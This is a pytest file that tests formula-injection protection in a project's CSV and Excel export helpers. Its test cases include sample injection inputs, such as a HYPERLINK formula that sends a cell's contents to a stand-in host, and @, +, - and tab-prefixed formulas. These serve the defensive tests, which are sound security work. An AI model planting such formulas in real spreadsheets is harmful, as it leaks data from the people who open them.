"""The one rule every export follows: a text a spreadsheet would run is written quoted,
numbers stay numbers, and our own readers take the quote off again."""

from __future__ import annotations

import csv
import io
import re
from decimal import Decimal
from pathlib import Path

import pytest
from openpyxl import load_workbook

from xiaoer.core.sheets import csv_writer, read_rows, safe_cell, unquote_cell, write_sheet

pytestmark = pytest.mark.database_free

SRC = Path(__file__).resolve().parents[2] / "src" / "xiaoer"


@pytest.mark.parametrize(
    ("value", "written"),
    [
        ('=HYPERLINK("http://x/?"&A1,"a")', '\'=HYPERLINK("http://x/?"&A1,"a")'),
        ("+1", "'+1"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        ('="3362512345678901299"', '\'="3362512345678901299"'),
        ("'=1+1", "'=1+1"),  # quoted already: a second pass changes nothing
        ("13800001234", "13800001234"),  # a phone, an order id: text of digits
        ("刘贺,3米*2.4米", "刘贺,3米*2.4米"),
        ("a=b", "a=b"),
        ("", ""),
        (-5, -5),
        (-2.5, -2.5),
        (Decimal("-50.00"), Decimal("-50.00")),
        (None, None),
    ],
)
def test_a_text_that_starts_like_a_formula_is_quoted_and_nothing_else_changes(
    value: object, written: object
) -> None:
    assert safe_cell(value) == written
    assert type(safe_cell(value)) is type(value)
    if isinstance(value, str) and not value.startswith("'"):  # see unquote_cell
        assert unquote_cell(str(written)) == value


def test_a_quote_is_taken_off_only_before_a_formula_character() -> None:
    assert unquote_cell("'13800001234") == "'13800001234"
    assert unquote_cell("'") == "'"
    assert unquote_cell("'\n=1") == "'\n=1"


def test_a_csv_export_quotes_texts_and_leaves_numbers() -> None:
    out = io.StringIO()
    writer = csv_writer(out)
    writer.writerow(["tid", "memo", "amount"])
    writer.writerows([["3362512345678901", "=1+1", -5], ["7", "-2+3", Decimal("1.50")]])
    assert list(csv.reader(io.StringIO(out.getvalue()))) == [
        ["tid", "memo", "amount"],
        ["3362512345678901", "'=1+1", "-5"],
        ["7", "'-2+3", "1.50"],
    ]


def test_a_workbook_holds_texts_as_strings_and_numbers_as_numbers() -> None:
    data = write_sheet(
        "sheet", ["name", "amount"], [["=1+1", Decimal("-50.00")], ["#N/A", 3], ["1001", -2.5]]
    )
    sheet = load_workbook(io.BytesIO(data)).active
    assert sheet is not None
    cells = [[(c.value, c.data_type) for c in row] for row in sheet.iter_rows(min_row=2)]
    assert cells == [
        [("'=1+1", "s"), (-50, "n")],
        [("#N/A", "s"), (3, "n")],
        [("1001", "s"), (-2.5, "n")],
    ]
    assert sheet["B2"].number_format == "0.00"
    # Read back by the import of the same sheet: as exported.
    assert [row for _line, row in read_rows(data, ["name"])] == [
        {"name": "=1+1"},
        {"name": "#N/A"},
        {"name": "1001"},
    ]


def test_every_export_writes_through_the_one_rule() -> None:
    """Only core.sheets makes CSV writers and workbooks; every export uses it."""
    makers = re.compile(r"\bcsv\.(writer|DictWriter)\(|\bWorkbook\(")
    offenders = [
        str(path.relative_to(SRC))
        for path in sorted(SRC.rglob("*.py"))
        if path != SRC / "core" / "sheets.py" and makers.search(path.read_text("utf-8"))
    ]
    assert offenders == []
